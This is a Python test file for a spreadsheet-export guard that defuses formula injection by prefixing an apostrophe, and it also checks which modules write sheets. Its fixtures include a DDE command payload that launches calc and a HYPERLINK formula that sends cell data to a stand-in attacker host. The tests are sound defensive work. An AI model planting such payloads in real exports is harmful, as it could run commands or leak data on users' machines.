"""No export lets a text from data act as a formula."""

import ast
from pathlib import Path

import pytest
from hypothesis import given
from hypothesis import strategies as st

from web.spreadsheets import inert

ROOT = Path(__file__).resolve().parents[2]


@pytest.mark.parametrize(
    "cell",
    [
        "=1+1",
        "=cmd|' /C calc'!A0",
        '=HYPERLINK("http://evil.example?"&A1)',
        "@SUM(A1)",
        "+cmd|x",
        "-2+3+cmd|x",
        "\t=1",
        "\r=1",
    ],
)
def test_what_a_spreadsheet_would_run_gets_an_apostrophe(cell: str) -> None:
    assert inert(cell) == f"'{cell}"


@pytest.mark.parametrize("cell", ["", "沪A12345", "-12.50", "+86 138 1234 5678", "1=2", "a@b.cn"])
def test_everything_else_stays(cell: str) -> None:
    assert inert(cell) == cell


@given(st.text())
def test_no_text_starts_a_formula(cell: str) -> None:
    safe = inert(cell)
    assert not safe.startswith(("=", "@", "\t", "\r"))
    assert safe.removeprefix("'") == cell.removeprefix("'") or safe == f"'{cell}"


WRITERS = {"writer", "DictWriter", "Workbook", "to_csv", "to_excel"}


def _writes(file: Path) -> bool:
    calls = [
        n.func for n in ast.walk(ast.parse(file.read_text("utf-8"))) if isinstance(n, ast.Call)
    ]
    names = {getattr(f, "attr", getattr(f, "id", "")) for f in calls}
    return bool(names & WRITERS)


def test_every_module_that_writes_a_sheet_is_known() -> None:
    """Who adds one says here how its texts are made inert."""
    folders = ("platform", "customers", "ml", "valuation")
    found = {
        str(file.relative_to(ROOT))
        for folder in folders
        for file in (ROOT / folder).rglob("*.py")
        if _writes(file)
    }
    assert found == {
        "customers/importing/refusals.py",  # inert() on headings, cells and messages
        "customers/privacy/files.py",  # takes rows out of refusal files, whose cells are inert
        "ml/change_pages.py",  # inert() on names of units and segments
        "ml/management/commands/scores.py",  # rows of ml.score_file: inert() on its texts
        "platform/config/bench/bulk_load.py",  # made-up rows on their way into a scratch database
        "valuation/lineage/page.py",  # inert() on names and texts
        "valuation/pools/tape.py",  # pseudonyms, codes of units and figures
        "valuation/pools/workbook.py",  # the same, and our own formulas
        "valuation/reports/audit_pack.py",  # pseudonyms, codes and figures
        "valuation/reports/deal_workbook.py",  # inert() on texts; our own formulas
        "valuation/segments/customer_page.py",  # inert() on names and texts
        "valuation/segments/load_page.py",  # the same
        "valuation/reports/workbook.py",  # inert() on texts; our own formulas
    }
